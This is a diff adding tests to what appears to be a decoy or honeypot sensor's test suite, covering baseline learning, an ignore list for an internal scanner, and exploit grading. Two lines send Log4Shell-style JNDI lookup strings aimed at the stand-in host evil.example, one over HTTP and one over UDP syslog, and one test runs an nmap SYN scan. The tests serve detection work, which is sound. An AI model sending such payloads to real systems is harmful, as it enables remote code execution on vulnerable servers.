@@ -129,6 +129,36 @@ class Stands(DecoyCase):
         self.assertTrue(any(c.get("tls", {}).get("client", {}).get("ja4", "").startswith("t13") for c in contacts), contacts)
         self.assertTrue(any(c["caltrop"].get("grade") == "exploit" for c in contacts))
 
+    def test_a_quiet_start_learns_what_is_usual(self):
+        learned = self.folder / "data/decoy/background"
+        decoy = self.decoy("--quiet-start", "1h")
+        for _ in range(3):
+            self.says(self.peer, "10.9.0.1", 8080, b"GET /health HTTP/1.0\r\n\r\n")
+        until("it is listed", lambda: learned.exists() and "learned" in learned.read_text())
+        decoy.stop()
+        self.assertEqual(decoy.actors(), [])
+        self.assertRegex(learned.read_text(), r"(?m)^learned +10\.9\.0\.2 tcp/8080 count=\d+")
+        self.assertEqual(len([c for c in decoy.contacts() if c.get("url")]), 3)  # recorded all the same
+        decoy = self.decoy()
+        self.says(self.peer, "10.9.0.1", 8080, b"GET /health HTTP/1.0\r\n\r\n")
+        decoy.quiet()
+        self.assertEqual(decoy.actors(), [])
+        self.says(self.peer, "10.9.0.1", 8080, b"GET /${jndi:ldap://evil.example/a} HTTP/1.0\r\n\r\n")
+        until("a payload is never background", lambda: any(a["caltrop"].get("grade") == "exploit" for a in decoy.actors()))
+        decoy.stop()
+
+    def test_an_ignore_list(self):
+        rules = self.folder / "ignore"
+        rules.write_text("10.9.0.2 tcp/1-2000  # our own scanner\n")
+        decoy = self.decoy("--observe", "--ignore", rules)
+        self.nmap("-sS", "-p", "1-2000")
+        decoy.quiet()
+        self.assertGreaterEqual(decoy.counts()["ignored_total"], 2000)
+        self.assertEqual(decoy.actors(), [])
+        self.nmap("-sS", "-p", "2001")
+        until("what no rule names", lambda: decoy.actors("10.9.0.2"))
+        decoy.stop()
+
     def test_udp_with_a_payload(self):
         decoy = self.decoy("--observe")
         self.network.on(self.peer, sys.executable, "-c", "import socket; s=socket.socket(2, 2); s.sendto(b'<13>${jndi:ldap://evil.example/u}', ('10.9.0.1', 514))")
